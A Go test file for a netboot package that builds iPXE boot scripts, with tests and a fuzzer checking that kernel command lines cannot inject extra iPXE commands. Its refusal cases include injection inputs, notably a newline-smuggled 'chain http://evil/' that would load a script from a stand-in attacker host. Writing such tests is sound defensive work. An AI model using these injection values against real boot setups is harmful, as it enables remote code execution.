package netboot

import (
	"encoding/hex"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestScript(t *testing.T) {
	got, err := Script(Boot{
		Kernel: File{Data: []byte("k")}, Initramfs: []File{{Data: []byte("i")}}, DTB: &File{Data: []byte("d")},
		Cmdline: `console=ttyS0 b2c.run="-ti docker://x;y"`,
	}, "http://10.42.0.1")
	if err != nil {
		t.Fatal(err)
	}
	want := `#!ipxe
set semicolon:hex 3b
set try:int32 1
:try
imgfree
kernel http://10.42.0.1/kernel initrd=b2c console=ttyS0 b2c.run="-ti docker://x${semicolon:string}y" || goto failed
initrd --name b2c http://10.42.0.1/initramfs || goto failed
fdt http://10.42.0.1/dtb || goto failed
boot || goto failed
:failed
echo b2c-runner: failed to boot from http://10.42.0.1, try ${try} of 4: ${errno}
iseq ${try} 4 && goto giveup ||
inc try
sleep 2
goto try
:giveup
echo b2c-runner: gave up after 4 tries
exit 1
`
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("script (-want +got):\n%s", diff)
	}
}

func TestScriptOfAKernelAlone(t *testing.T) {
	got, err := Script(Boot{}, "http://10.42.0.1")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(got, "\nkernel http://10.42.0.1/kernel || goto failed\nboot || goto failed\n") {
		t.Errorf("the script is:\n%s", got)
	}
}

func TestScriptRefuses(t *testing.T) {
	for _, tc := range []struct{ cmdline, want string }{
		{"quiet\nchain http://evil/", "control character (0x0a) at byte 5"},
		{"quiet\r", "control character"},
		{"a\x00b", "control character"},
		{"a\tb", "control character"},
		{"x\x7f", "control character"},
		{"root=${net0/ip}", `"root=${net0/ip}", which iPXE would expand`},
		{"a ${semicolon:string}", "would expand"},
		{"$${{x}}", "would expand"},
	} {
		if _, err := Script(Boot{Cmdline: tc.cmdline}, ""); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%q: error %v, want %q", tc.cmdline, err, tc.want)
		}
	}
}

// FuzzScript holds a script against a model of iPXE's shell (src/core/exec.c,
// src/core/settings.c, src/image/script.c): what the kernel gets must be what was
// given, and nothing else may run. TestIPXEBoots holds the model against iPXE.
func FuzzScript(f *testing.F) {
	for _, s := range []string{
		"", " ", "  a  b ", "a;b ; c", "# x #y z#", "a && b || c & d | e", `\`, `a \`, "${", "${a b}", "$;{", "a}${b;c", "$", ":try", "kernel",
		"ä €", `b2c.run="-ti docker://x"`, "--", "-n",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmdline string) {
		script, err := Script(Boot{Cmdline: cmdline, Initramfs: []File{{}}}, "http://10.42.0.1")
		if err != nil {
			return
		}
		lines := strings.Split(script, "\n")
		plain, err := Script(Boot{Initramfs: []File{{}}}, "http://10.42.0.1")
		if err != nil {
			t.Fatal(err)
		}
		set := regexp.MustCompile(`^set ([a-z]+):hex ([0-9a-f]{2})$`)
		settings := make(map[string]string)
		var kernel string
		var rest []string
		for _, line := range lines {
			if m := set.FindStringSubmatch(line); m != nil {
				value, err := hex.DecodeString(m[2])
				if err != nil {
					t.Fatal(err)
				}
				settings[m[1]+":string"] = string(value)
				continue
			}
			if strings.HasPrefix(line, "kernel ") && kernel == "" {
				kernel = line
				line = "kernel http://10.42.0.1/kernel initrd=b2c || goto failed"
			}
			rest = append(rest, line)
		}
		if got := strings.Join(rest, "\n"); got != plain {
			t.Fatalf("%q changes the script beyond its line:\n%s", cmdline, got)
		}
		want := []string{"kernel http://10.42.0.1/kernel initrd=b2c", "goto failed"}
		if cmdline != "" {
			want[0] += " " + cmdline
		}
		if diff := cmp.Diff(want, shell(kernel, settings)); diff != "" {
			t.Errorf("%q (-want +got):\n%s", cmdline, diff)
		}
	})
}

// shell is what iPXE makes of a line: the commands, each with its words joined by
// one space.
func shell(line string, settings map[string]string) []string {
	if strings.HasSuffix(line, `\`) {
		return []string{"continued"}
	}
	isSpace := func(r rune) bool { return strings.ContainsRune(" \t\n\v\f\r", r) }
	var commands, words []string
	for _, word := range strings.FieldsFunc(line, isSpace) {
		if word[0] == '#' {
			break
		}
		if word == ";" || word == "&&" || word == "||" {
			commands, words = append(commands, strings.Join(words, " ")), nil
			continue
		}
		words = append(words, expand(word, settings))
	}
	return append(commands, strings.Join(words, " "))
}

// expand replaces the innermost "${…}" until there is none.
func expand(s string, settings map[string]string) string {
	for {
		first := strings.Index(s, "${")
		if first < 0 {
			return s
		}
		end := strings.IndexByte(s[first:], '}')
		if end < 0 {
			return s
		}
		end += first
		start := strings.LastIndex(s[:end], "${")
		s = s[:start] + settings[s[start+2:end]] + s[end+1:]
	}
}
